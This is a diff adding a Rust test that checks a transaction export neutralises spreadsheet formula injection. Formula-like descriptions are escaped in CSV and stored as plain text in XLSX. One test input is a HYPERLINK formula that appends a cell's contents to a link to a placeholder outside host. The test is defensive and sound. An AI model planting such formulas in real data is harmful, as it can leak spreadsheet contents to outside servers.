@@ -240,3 +240,77 @@ async fn the_history_xlsx_holds_every_row_as_numbers_and_dates() {
         assert!(matches!(row[1], Data::DateTime(_)), "{row:?}");
     }
 }
+
+/// What a cashier types never runs as a formula when the accountant opens the file: in CSV a
+/// description a spreadsheet would take for one gets an apostrophe in front; in XLSX it is a
+/// text cell exactly as typed. Ordinary text is untouched.
+#[tokio::test]
+async fn a_description_that_looks_like_a_formula_stays_text_in_the_files() {
+    use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
+    let app = spawn_app().await;
+    let typed = [
+        "=HYPERLINK(\"http://contoh.id/?\"&A1;\"klik\")",
+        "+62 812 3456",
+        "-beli gas",
+        "@SUM(A1:A9)",
+        "nasi = 5",
+    ];
+    for (i, description) in typed.iter().enumerate() {
+        let (status, body) = app
+            .post(
+                "/transactions",
+                json!({
+                    "type": "IN",
+                    "amount": 10_000,
+                    "category": "Penjualan",
+                    "description": description,
+                    "occurred_at": format!("2025-12-06T0{i}:15:00.000Z"),
+                }),
+            )
+            .await;
+        assert_eq!(status, 201, "{body}");
+    }
+    let (status, _, rows) = exported(&app, "").await;
+    assert_eq!(status, 200);
+    let mut in_csv: Vec<&str> = rows[1..].iter().map(|r| r[7].as_str()).collect();
+    in_csv.sort_unstable();
+    assert_eq!(
+        in_csv,
+        [
+            "'+62 812 3456",
+            "'-beli gas",
+            "'=HYPERLINK(\"http://contoh.id/?\"&A1;\"klik\")",
+            "'@SUM(A1:A9)",
+            "nasi = 5",
+        ]
+    );
+
+    let bytes = app
+        .client
+        .get(app.url("/transactions/export?format=xlsx"))
+        .send()
+        .await
+        .unwrap()
+        .bytes()
+        .await
+        .unwrap();
+    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
+    let sheet = book.worksheet_range("Riwayat").unwrap();
+    let mut in_xlsx: Vec<String> = sheet
+        .rows()
+        .skip(1)
+        .map(|r| match &r[7] {
+            Data::String(s) => s.clone(),
+            other => panic!("a description is a text cell: {other:?}"),
+        })
+        .collect();
+    in_xlsx.sort_unstable();
+    let mut as_typed: Vec<String> = typed.iter().map(|s| (*s).to_owned()).collect();
+    as_typed.sort_unstable();
+    assert_eq!(in_xlsx, as_typed);
+    let formulas = book.worksheet_formula("Riwayat").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "no cell of the file is a formula"
+    );
+}
